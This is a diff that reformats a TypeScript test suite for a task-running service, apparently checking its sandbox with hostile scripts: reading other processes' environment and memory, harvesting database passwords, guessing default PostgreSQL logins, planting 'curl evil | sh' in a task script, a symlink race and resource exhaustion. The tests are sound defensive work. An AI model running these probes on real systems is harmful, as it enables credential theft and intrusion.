@@ -29,14 +29,25 @@ beforeAll(async () => {
   app = await startApp();
   dataDir = path.join(app.dir, 'data');
   webPort = Number(new URL(app.url).port);
-  const res = await app.api('/api/tokens', { method: 'POST', body: JSON.stringify({ name: 'hostile-editor', role: 'editor' }), headers: { 'content-type': 'application/json' } });
+  const res = await app.api('/api/tokens', {
+    method: 'POST',
+    body: JSON.stringify({ name: 'hostile-editor', role: 'editor' }),
+    headers: { 'content-type': 'application/json' },
+  });
   const { token } = (await res.json()) as { token: string };
   editor = (p, init = {}) =>
-    fetch(`${app.url}${p}`, { ...init, headers: { 'content-type': 'application/json', ...(init.headers as Record<string, string>), Authorization: `Bearer ${token}` } });
-  isolation = await waitFor(async () => {
-    const info = await (await app.api('/api/system/info')).json();
-    return info.runners.length > 0 ? info.isolation : undefined;
-  }, 30_000, 'the runner to report its isolation');
+    fetch(`${app.url}${p}`, {
+      ...init,
+      headers: { 'content-type': 'application/json', ...(init.headers as Record<string, string>), Authorization: `Bearer ${token}` },
+    });
+  isolation = await waitFor(
+    async () => {
+      const info = await (await app.api('/api/system/info')).json();
+      return info.runners.length > 0 ? info.isolation : undefined;
+    },
+    30_000,
+    'the runner to report its isolation',
+  );
 }, 120_000);
 let cleanupMarker: string | undefined;
 afterAll(async () => {
@@ -49,7 +60,12 @@ type Ended = Run & { text: string; ms: number };
 
 let n = 0;
 /** Creates a task as the editor, runs it, waits for its end: the run and its log. */
-async function attack(language: 'py' | 'sh' | 'js', content: string, settings: Record<string, unknown> = {}, waitMs = 60_000): Promise<Ended> {
+async function attack(
+  language: 'py' | 'sh' | 'js',
+  content: string,
+  settings: Record<string, unknown> = {},
+  waitMs = 60_000,
+): Promise<Ended> {
   const id = `hostile${++n}`;
   const created = await editor('/api/tasks', { method: 'POST', body: JSON.stringify({ id, language, content, ...settings }) });
   expect(created.status, await created.clone().text()).toBe(201);
@@ -57,10 +73,14 @@ async function attack(language: 'py' | 'sh' | 'js', content: string, settings: R
   const exec = await editor(`/api/tasks/${id}/execute`, { method: 'POST' });
   expect(exec.status).toBe(202);
   const { run_id } = (await exec.json()) as { run_id: number };
-  const run = await waitFor(async () => {
-    const r = (await (await app.api(`/api/runs/${run_id}`)).json()) as Run & { finished_at: string | null };
-    return r.finished_at ? r : undefined;
-  }, waitMs, `run ${run_id} of ${id} to end`);
+  const run = await waitFor(
+    async () => {
+      const r = (await (await app.api(`/api/runs/${run_id}`)).json()) as Run & { finished_at: string | null };
+      return r.finished_at ? r : undefined;
+    },
+    waitMs,
+    `run ${run_id} of ${id} to end`,
+  );
   const ms = Date.now() - started;
   const text = await (await app.api(run.log)).text();
   return { ...run, text, ms };
@@ -72,26 +92,33 @@ const uidOf = (text: string) => Number(/uid=(\d+)/.exec(text)?.[1]);
 // waiting wrapper (`taskrun-run`), which is no process of the run that ended. A run's own process
 // would have exec'd its task, or be an orphan, or a child of another.)
 function processesOfUid(uid: number): number[] {
-  return fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
-    try {
-      const status = fs.readFileSync(`/proc/${p}/status`, 'utf8');
-      if (!new RegExp(`^Uid:\\s+${uid}\\b`, 'm').test(status) || /^State:\s+Z/m.test(status)) return false;
-      const parent = /^PPid:\s+(\d+)/m.exec(status)![1];
-      const waiting = fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('\0taskrun-run');
-      return !(waiting && fs.readFileSync(`/proc/${parent}/cmdline`, 'utf8').includes('runner/main'));
-    } catch {
-      return false;
-    }
-  }).map(Number);
+  return fs
+    .readdirSync('/proc')
+    .filter((p) => /^\d+$/.test(p))
+    .filter((p) => {
+      try {
+        const status = fs.readFileSync(`/proc/${p}/status`, 'utf8');
+        if (!new RegExp(`^Uid:\\s+${uid}\\b`, 'm').test(status) || /^State:\s+Z/m.test(status)) return false;
+        const parent = /^PPid:\s+(\d+)/m.exec(status)![1];
+        const waiting = fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes('\0taskrun-run');
+        return !(waiting && fs.readFileSync(`/proc/${parent}/cmdline`, 'utf8').includes('runner/main'));
+      } catch {
+        return false;
+      }
+    })
+    .map(Number);
 }
 
 // Every process of the run is ended with its end; the last of a fork bomb's may take the runner's
 // clean-up right after the end is recorded.
-const noneLeft = (uid: number) => waitFor(() => processesOfUid(uid).length === 0, 10_000, `no process of uid ${uid} (${processesOfUid(uid).join(', ')})`);
+const noneLeft = (uid: number) =>
+  waitFor(() => processesOfUid(uid).length === 0, 10_000, `no process of uid ${uid} (${processesOfUid(uid).join(', ')})`);
 
-describe.skipIf(!root)('a task cannot reach taskrun\'s keys', () => {
+describe.skipIf(!root)("a task cannot reach taskrun's keys", () => {
   it('cannot read the environment or memory of any taskrun process, which hold no secrets anyway', async () => {
-    const run = await attack('js', `
+    const run = await attack(
+      'js',
+      `
 const fs = require('fs');
 const out = { uid: process.getuid(), leaks: [] };
 for (const f of ['environ', 'mem']) {
@@ -105,7 +132,8 @@ for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
 }
 console.log('uid=' + out.uid);
 console.log(JSON.stringify(out));
-`);
+`,
+    );
     expect(run.status).toBe('success');
     const out = JSON.parse(run.text.trim().split('\n').at(-1)!);
     expect(out.uid).toBeGreaterThan(0);
@@ -128,12 +156,15 @@ console.log(JSON.stringify(out));
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'taskrun-preload-'));
     fs.chmodSync(dir, 0o755);
     const mark = path.join(app.dir, 'root-was-here');
-    fs.writeFileSync(path.join(dir, 'mark.c'), `#include <stdio.h>
+    fs.writeFileSync(
+      path.join(dir, 'mark.c'),
+      `#include <stdio.h>
 #include <unistd.h>
 __attribute__((constructor)) static void mark(void) {
   if (getuid() == 0 || geteuid() == 0) { FILE *f = fopen("${mark}", "a"); if (f) { fprintf(f, "root pid %d\\n", getpid()); fclose(f); } }
 }
-`);
+`,
+    );
     execFileSync('gcc', ['-shared', '-fPIC', '-o', path.join(dir, 'mark.so'), path.join(dir, 'mark.c')]);
     fs.chmodSync(path.join(dir, 'mark.so'), 0o755);
     try {
@@ -149,7 +180,9 @@ __attribute__((constructor)) static void mark(void) {
   });
 
   it('cannot read DATA_DIR: the secret key, the database passwords, the database files', async () => {
-    const run = await attack('py', `
+    const run = await attack(
+      'py',
+      `
 import os
 print("uid=%d" % os.getuid())
 for name in ["secret.key", "pg-password", "pg-app-password", "embedded-url", "pg/PG_VERSION", "pg/global/pg_control"]:
@@ -162,7 +195,9 @@ try:
     print("LISTED", os.listdir(os.environ["DATA"]))
 except OSError as e:
     print("refused listing", type(e).__name__)
-`, { env: { DATA: dataDir } });
+`,
+      { env: { DATA: dataDir } },
+    );
     expect(run.status).toBe('success');
     expect(run.text).not.toMatch(/READ|LISTED/);
     expect(run.text.match(/refused/g)).toHaveLength(7);
@@ -170,9 +205,11 @@ except OSError as e:
     expect(run.text).not.toContain(key);
   });
 
-  it('cannot connect to the database: taskrun\'s credentials are nowhere it can read, and guesses fail', async () => {
+  it("cannot connect to the database: taskrun's credentials are nowhere it can read, and guesses fail", async () => {
     const port = fs.readFileSync(path.join(dataDir, 'pg-port'), 'utf8').trim();
-    const run = await attack('sh', `
+    const run = await attack(
+      'sh',
+      `
 id -u | sed 's/^/uid=/'
 found=$(cat "$DATA"/pg-password "$DATA"/pg-app-password "$DATA"/embedded-url 2>/dev/null
   for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null | grep -E '^(DATABASE_URL|DATABASE_OWNER_URL|PGPASSWORD)='; done)
@@ -181,7 +218,9 @@ for url in "postgres://postgres@127.0.0.1:$PORT/postgres" "postgres://taskrun@12
            "postgres://postgres:postgres@127.0.0.1:$PORT/postgres" "postgres://taskrun:taskrun@127.0.0.1:$PORT/postgres"; do
   if PGCONNECT_TIMEOUT=5 psql -w "$url" -Atc 'select 1' >/dev/null 2>&1; then echo "CONNECTED $url"; else echo "refused $url"; fi
 done
-`, { env: { DATA: dataDir, PORT: port } });
+`,
+      { env: { DATA: dataDir, PORT: port } },
+    );
     expect(run.status).toBe('success');
     expect(run.text).toContain('found: []');
     expect(run.text).not.toContain('CONNECTED');
@@ -192,11 +231,13 @@ done
     await sql.end();
   });
 
-  it('cannot append to another run\'s log, nor read or list any log', async () => {
+  it("cannot append to another run's log, nor read or list any log", async () => {
     const other = await attack('sh', 'echo "the other run\'s own output"\n');
     const before = await (await app.api(other.log)).text();
     const file = path.join(app.logsDir, path.basename(other.log));
-    const run = await attack('py', `
+    const run = await attack(
+      'py',
+      `
 import os
 print("uid=%d" % os.getuid())
 for what, act in [("append", lambda: open(os.environ["VICTIM"], "a").write("forged\\n")),
@@ -208,7 +249,9 @@ for what, act in [("append", lambda: open(os.environ["VICTIM"], "a").write("forg
         print("DID", what)
     except OSError as e:
         print("refused", what, type(e).__name__)
-`, { env: { VICTIM: file, LOGS: app.logsDir } });
+`,
+      { env: { VICTIM: file, LOGS: app.logsDir } },
+    );
     expect(run.status).toBe('success');
     expect(run.text).not.toContain('DID');
     expect(run.text.match(/refused/g)).toHaveLength(4);
@@ -216,10 +259,12 @@ for what, act in [("append", lambda: open(os.environ["VICTIM"], "a").write("forg
     expect(fs.existsSync(path.join(app.logsDir, 'forged.log'))).toBe(false);
   });
 
-  it('cannot change, add, rename or remove any task\'s script, its own included', async () => {
+  it("cannot change, add, rename or remove any task's script, its own included", async () => {
     const victim = path.join(app.tasksDir, 'victim.sh');
     fs.writeFileSync(victim, 'echo victim\n', { mode: 0o755 });
-    const run = await attack('py', `
+    const run = await attack(
+      'py',
+      `
 import os, sys
 print("uid=%d" % os.getuid())
 tasks = os.environ["TASKS"]
@@ -235,7 +280,9 @@ for what, act in [("write", lambda: open(victim, "w").write("curl evil | sh\\n")
         print("DID", what)
     except OSError as e:
         print("refused", what, type(e).__name__)
-`, { env: { TASKS: app.tasksDir } });
+`,
+      { env: { TASKS: app.tasksDir } },
+    );
     expect(run.status).toBe('success');
     expect(run.text).not.toContain('DID');
     expect(run.text.match(/refused/g)).toHaveLength(6);
@@ -246,7 +293,9 @@ for what, act in [("write", lambda: open(victim, "w").write("curl evil | sh\\n")
 
 describe.skipIf(!root)('a run ends cleanly, whatever it starts', () => {
   it('ends at its timeout even when its processes stop everything they can signal (SIGSTOP to all of its uid)', async () => {
-    const run = await attack('py', `
+    const run = await attack(
+      'py',
+      `
 import os, signal, time
 print("uid=%d" % os.getuid(), flush=True)
 if os.fork() == 0:
@@ -259,24 +308,30 @@ if os.fork() == 0:
             pass
         time.sleep(0.001)
 time.sleep(1000)
-`, { timeout_s: 2 });
+`,
+      { timeout_s: 2 },
+    );
     expect(run.status).toBe('timeout');
     await noneLeft(uidOf(run.text));
   });
 
   it('kills what escaped its process group (setsid, nohup, a double fork) at its end', async () => {
-    const run = await attack('sh', `
+    const run = await attack(
+      'sh',
+      `
 id -u | sed 's/^/uid=/'
 setsid sleep 1000 & echo "pid $!"
 nohup sleep 1000 >/dev/null 2>&1 & echo "pid $!"
 (sleep 1000 & echo "pid $!") &
 sleep 0.3
 echo done
-`);
+`,
+    );
     expect(run.status).toBe('success');
     const pids = [...run.text.matchAll(/^pid (\d+)$/gm)].map((m) => Number(m[1]));
     expect(pids).toHaveLength(3);
-    for (const pid of pids) expect(fs.existsSync(`/proc/${pid}/status`) && !/State:\s+Z/.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))).toBe(false);
+    for (const pid of pids)
+      expect(fs.existsSync(`/proc/${pid}/status`) && !/State:\s+Z/.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))).toBe(false);
     await noneLeft(uidOf(run.text));
   });
 
@@ -287,10 +342,12 @@ echo done
     fs.chmodSync(victim, 0o755);
     const count = 30_000;
     for (let i = 0; i < count; i++) fs.writeFileSync(path.join(victim, `f${i}`), '');
-    fs.writeFileSync(path.join(victim, 'secret.key'), 'root\'s\n');
+    fs.writeFileSync(path.join(victim, 'secret.key'), "root's\n");
     const dir = `/tmp/taskrun-race-${process.pid}`;
     try {
-      const racer = attack('py', `
+      const racer = attack(
+        'py',
+        `
 import os, time
 a = "${dir}/a"
 deadline = time.time() + 60
@@ -304,8 +361,13 @@ time.sleep(0.01)
 os.rename(a, a + "_old")
 os.symlink("${victim}", a)
 print("swapped")
-`, {}, 120_000);
-      const planter = await attack('py', `
+`,
+        {},
+        120_000,
+      );
+      const planter = await attack(
+        'py',
+        `
 import os
 os.makedirs("${dir}/a")
 os.chmod("${dir}", 0o777)
@@ -314,12 +376,15 @@ for i in range(${count}):
     open("${dir}/a/f%d" % i, "w").close()
 open("${dir}/a/secret.key", "w").close()
 open("${dir}/ready", "w").close()
-`, {}, 120_000);
+`,
+        {},
+        120_000,
+      );
       expect(planter.status).toBe('success');
       const raced = await racer;
       console.log(`race: ${raced.text.trim() || raced.error}`);
       expect(fs.readdirSync(victim)).toHaveLength(count + 1);
-      expect(fs.readFileSync(path.join(victim, 'secret.key'), 'utf8')).toBe('root\'s\n');
+      expect(fs.readFileSync(path.join(victim, 'secret.key'), 'utf8')).toBe("root's\n");
     } finally {
       fs.rmSync(victim, { recursive: true, force: true });
       fs.rmSync(dir, { recursive: true, force: true });
@@ -327,14 +392,17 @@ open("${dir}/ready", "w").close()
   });
 
   it('leaves no file behind for the next run of its uid: scratch folder, /tmp, /dev/shm', async () => {
-    const run = await attack('sh', `
+    const run = await attack(
+      'sh',
+      `
 id -u | sed 's/^/uid=/'
 echo "home $HOME"
 echo secret > "$TASKRUN_WORKDIR/kept-for-later"
 echo secret > /tmp/taskrun-hostile-$$ && echo "tmp /tmp/taskrun-hostile-$$"
 echo secret > /dev/shm/taskrun-hostile-$$ && echo "shm /dev/shm/taskrun-hostile-$$"
 pwd | sed 's/^/cwd /'
-`);
+`,
+    );
     expect(run.status).toBe('success');
     const home = /^home (.+)$/m.exec(run.text)![1]!;
     expect(home.startsWith('/tmp/taskrun-work/')).toBe(true);
@@ -359,13 +427,17 @@ pwd | sed 's/^/cwd /'
   });
 
   it('stops a run that allocates past its memory limit, with that reason', async () => {
-    const run = await attack('py', `
+    const run = await attack(
+      'py',
+      `
 import os
 print("uid=%d" % os.getuid(), flush=True)
 chunks = []
 while True:
     chunks.append(b"x" * (4 << 20))
-`, { max_memory_bytes: 128 * 1024 * 1024 });
+`,
+      { max_memory_bytes: 128 * 1024 * 1024 },
+    );
     expect(run.status).toBe('failed');
     if (isolation.cgroup === 'none') {
       expect(run.text).toMatch(/MemoryError/);
@@ -378,17 +450,27 @@ while True:
   });
 
   it('refuses a 10 GB allocation at once (RLIMIT_DATA): the program fails, the machine does not notice', async () => {
-    const run = await attack('py', 'import os\nprint("uid=%d" % os.getuid(), flush=True)\nbig = b"x" * (10 * 1024 ** 3)\nprint("ALLOCATED")\n', { max_memory_bytes: 256 * 1024 * 1024 });
+    const run = await attack(
+      'py',
+      'import os\nprint("uid=%d" % os.getuid(), flush=True)\nbig = b"x" * (10 * 1024 ** 3)\nprint("ALLOCATED")\n',
+      { max_memory_bytes: 256 * 1024 * 1024 },
+    );
     expect(run.status).toBe('failed');
     expect(run.text).toMatch(/MemoryError/);
     expect(run.text).not.toContain('ALLOCATED');
   });
 
   it('stops a 100 GB file at its file size limit, with that reason', async () => {
-    const run = await attack('sh', 'id -u | sed "s/^/uid=/"\nhead -c 100G /dev/zero > "$TASKRUN_WORKDIR/big"\necho "SURVIVED $?"\n', { max_file_bytes: 8 * 1024 * 1024 });
+    const run = await attack('sh', 'id -u | sed "s/^/uid=/"\nhead -c 100G /dev/zero > "$TASKRUN_WORKDIR/big"\necho "SURVIVED $?"\n', {
+      max_file_bytes: 8 * 1024 * 1024,
+    });
     // head dies of SIGXFSZ; the shell goes on and says so, and the run ends by itself.
     expect(run.text).toMatch(/SURVIVED 153/);
-    const py = await attack('py', 'import os\nf = open(os.path.join(os.environ["TASKRUN_WORKDIR"], "big"), "wb")\nwhile True:\n    f.write(b"\\0" * (1 << 20))\n', { max_file_bytes: 8 * 1024 * 1024 });
+    const py = await attack(
+      'py',
+      'import os\nf = open(os.path.join(os.environ["TASKRUN_WORKDIR"], "big"), "wb")\nwhile True:\n    f.write(b"\\0" * (1 << 20))\n',
+      { max_file_bytes: 8 * 1024 * 1024 },
+    );
     expect(py.status).toBe('failed');
     expect(py.text).toMatch(/File too large/);
     const killed = await attack('sh', 'exec head -c 100G /dev/zero > "$TASKRUN_WORKDIR/big"\n', { max_file_bytes: 8 * 1024 * 1024 });
@@ -427,7 +509,9 @@ except OSError as e:
     // Nor a Unix socket: the machine's PostgreSQL listens in /run, which a run without network does not see.
     const socket = '/var/run/postgresql/.s.PGSQL.5432';
     if (fs.existsSync(socket)) {
-      const unix = await attack('py', `
+      const unix = await attack(
+        'py',
+        `
 import socket
 s = socket.socket(socket.AF_UNIX)
 try:
@@ -435,31 +519,42 @@ try:
     print("CONNECTED")
 except OSError as e:
     print("refused", type(e).__name__)
-`, { isolation: 'strict', network: false });
+`,
+        { isolation: 'strict', network: false },
+      );
       expect(unix.text).toMatch(/^refused/m);
     }
     const kept = await attack('py', probe, { isolation: 'strict' });
     expect(kept.text).toContain('CONNECTED');
     // From the host the port answers: the refusal was the sandbox.
-    await new Promise<void>((resolve, reject) => net.connect(webPort, '127.0.0.1').once('connect', function (this: net.Socket) {
-      this.destroy();
-      resolve();
-    }).once('error', reject));
+    await new Promise<void>((resolve, reject) =>
+      net
+        .connect(webPort, '127.0.0.1')
+        .once('connect', function (this: net.Socket) {
+          this.destroy();
+          resolve();
+        })
+        .once('error', reject),
+    );
   });
 
   it('shows a read-only system, its own processes only, a private /tmp and only its own script', async () => {
     fs.writeFileSync(path.join(app.tasksDir, 'neighbour.sh'), 'echo neighbour\n', { mode: 0o755 });
     const marker = `/tmp/taskrun-hostile-marker-${process.pid}`;
-    fs.writeFileSync(marker, 'the host\'s /tmp\n');
+    fs.writeFileSync(marker, "the host's /tmp\n");
     cleanupMarker = marker;
-    const run = await attack('sh', `
+    const run = await attack(
+      'sh',
+      `
 echo "procs $(ls /proc | grep -c '^[0-9]')"
 touch /usr/taskrun-hostile 2>/dev/null && echo "WROTE /usr" || echo "refused /usr"
 ls /tmp/taskrun-hostile-marker-* 2>/dev/null && echo "SEES HOST TMP" || echo "private tmp"
 echo "tasks [$(ls -A "$TASKS")]"
 ls -A "$DATA" 2>/dev/null | grep -q . && echo "SEES DATA" || echo "no data"
 echo x > "$TASKRUN_WORKDIR/ok" && echo "scratch writable"
-`, { isolation: 'strict', env: { TASKS: app.tasksDir, DATA: dataDir } });
+`,
+      { isolation: 'strict', env: { TASKS: app.tasksDir, DATA: dataDir } },
+    );
     expect(run.status).toBe('success');
     expect(Number(/procs (\d+)/.exec(run.text)![1])).toBeLessThan(10);
     expect(run.text).toContain('refused /usr');
@@ -471,13 +566,16 @@ echo x > "$TASKRUN_WORKDIR/ok" && echo "scratch writable"
   });
 
   it('refuses network: false without strict, naming why', async () => {
-    const res = await editor('/api/tasks', { method: 'POST', body: JSON.stringify({ id: 'netless', language: 'sh', content: 'true\n', network: false }) });
+    const res = await editor('/api/tasks', {
+      method: 'POST',
+      body: JSON.stringify({ id: 'netless', language: 'sh', content: 'true\n', network: false }),
+    });
     expect(res.status).toBe(400);
     expect((await res.json()).error).toMatch(/network: false needs isolation: "strict"/);
   });
 });
 
-describe.skipIf(!root)('the audit log against taskrun\'s own database role', () => {
+describe.skipIf(!root)("the audit log against taskrun's own database role", () => {
   it('can be added to and read, never changed, emptied or unprotected', async () => {
     const sql = postgres(fs.readFileSync(path.join(dataDir, 'embedded-url'), 'utf8').trim(), { max: 1, onnotice: () => {} });
     try {
@@ -502,7 +600,10 @@ describe.skipIf(!root)('the audit log against taskrun\'s own database role', () 
 
 // The pids of a process's descendants, from /proc.
 function childPids(pid: number): number[] {
-  const all = fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).map(Number);
+  const all = fs
+    .readdirSync('/proc')
+    .filter((p) => /^\d+$/.test(p))
+    .map(Number);
   const parent = new Map<number, number>();
   for (const p of all) {
     try {
